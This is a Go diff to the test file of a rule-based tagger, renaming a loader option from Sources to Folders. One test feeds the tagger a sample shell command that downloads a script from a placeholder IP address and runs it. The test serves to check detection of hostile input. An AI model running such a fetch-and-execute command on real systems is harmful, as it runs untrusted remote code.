@@ -10,7 +10,7 @@ import (
 )
 
 var loadEmbedded = sync.OnceValue(func() *RuleSet {
-	rs, _ := Load(Options{Sources: []Source{{Name: "embedded", FS: Embedded()}}, Release: "enterprise-v18.1"})
+	rs, _ := Load(Options{Folders: []Folder{{Name: "embedded", FS: Embedded()}}, Release: "enterprise-v18.1"})
 	return rs
 })
 
@@ -70,7 +70,7 @@ func (panicking) holds(*evaluation) bool { panic("out of order") }
 // TestPanic holds that a rule that fails loses its own tags only, and that the
 // verdict is not remembered as if it had finished.
 func TestPanic(t *testing.T) {
-	rs, _ := Load(Options{Sources: []Source{{Name: "embedded", FS: Embedded()}}})
+	rs, _ := Load(Options{Folders: []Folder{{Name: "embedded", FS: Embedded()}}})
 	const text = "wget http://203.0.113.9/a.sh; sh a.sh"
 	want := rulesOf(tagsOf(rs.Tagger(nil), text))
 	if len(want) < 2 {
